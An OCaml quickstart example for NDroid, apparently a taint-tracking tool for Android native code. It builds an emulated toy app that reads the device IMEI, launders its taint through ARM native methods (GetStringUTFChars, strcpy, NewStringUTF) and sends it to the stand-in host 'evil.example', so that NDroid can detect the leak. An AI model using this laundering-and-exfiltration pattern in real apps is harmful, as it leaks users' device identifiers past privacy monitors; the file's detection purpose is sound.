(* Quickstart: build a tiny app with a native method, attach NDroid, catch
   the leak TaintDroid would miss.

   The app does, in Dalvik bytecode and ARM assembly:

     String imei = TelephonyManager.getDeviceId();   // tainted 0x400
     stash(imei);                 // native: chars -> global buffer
     String s = unstash();        // native: NewStringUTF(buffer) — fresh,
                                  //         untainted object for TaintDroid
     Socket.send("evil.example", s);

   Run with:  dune exec examples/quickstart.exe *)

module Device = Ndroid_runtime.Device
module Layout = Ndroid_emulator.Layout
module Ndroid = Ndroid_core.Ndroid
module A = Ndroid_android
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn

let cls = "Lcom/example/Quickstart;"

(* ---- the app's Java side ---- *)

let classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
      [ J.native_method ~cls ~name:"stash" ~shorty:"VL" "stash";
        J.native_method ~cls ~name:"unstash" ~shorty:"L" "unstash";
        J.method_ ~cls ~name:"main" ~shorty:"V"
          [ J.I
              (B.Invoke
                 ( B.Static,
                   { B.m_class = "Landroid/telephony/TelephonyManager;";
                     m_name = "getDeviceId" },
                   [] ));
            J.I (B.Move_result 0);
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "stash" }, [ 0 ]));
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "unstash" }, []));
            J.I (B.Move_result 1);
            J.I (B.Const_string (2, "evil.example"));
            J.I
              (B.Invoke
                 (B.Static, { B.m_class = "Ljava/net/Socket;"; m_name = "send" },
                  [ 2; 1 ]));
            J.I B.Return_void ] ] ]

(* ---- the app's native side, in real ARM machine code ---- *)

let native_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    ([ Asm.Label "stash";
       Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
       (* chars = GetStringUTFChars(env, jstr, NULL) *)
       Asm.I (Insn.mov 1 (Insn.Reg 2));
       Asm.I (Insn.mov 2 (Insn.Imm 0));
       Asm.Call "GetStringUTFChars";
       (* strcpy(buffer, chars) *)
       Asm.I (Insn.mov 1 (Insn.Reg 0));
       Asm.La (0, "buffer");
       Asm.Call "strcpy";
       Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
       Asm.Label "unstash";
       Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
       (* NewStringUTF(env, buffer) *)
       Asm.La (1, "buffer");
       Asm.Call "NewStringUTF";
       Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
       Asm.Align4;
       Asm.Label "buffer" ]
    @ List.init 16 (fun _ -> Asm.Word 0))

let () =
  (* 1. boot a device and install the app *)
  let device = Device.create () in
  Device.install_classes device classes;
  Device.provide_library device "quickstart" (native_lib Device.host_fn_addr);
  Device.load_library device "quickstart";

  (* 2. attach NDroid *)
  let ndroid = Ndroid.attach device in

  (* 3. run the app *)
  ignore (Device.run device cls "main" [||]);

  (* 4. what happened? *)
  print_endline "--- leaks caught ---";
  List.iter
    (fun l -> Format.printf "  %a@." A.Sink_monitor.pp_leak l)
    (Ndroid.leaks ndroid);
  print_endline "--- NDroid flow log ---";
  List.iter (fun l -> Printf.printf "  %s\n" l) (Ndroid.log ndroid);
  Format.printf "--- stats ---@.  %a@." Ndroid.pp_stats (Ndroid.stats ndroid)
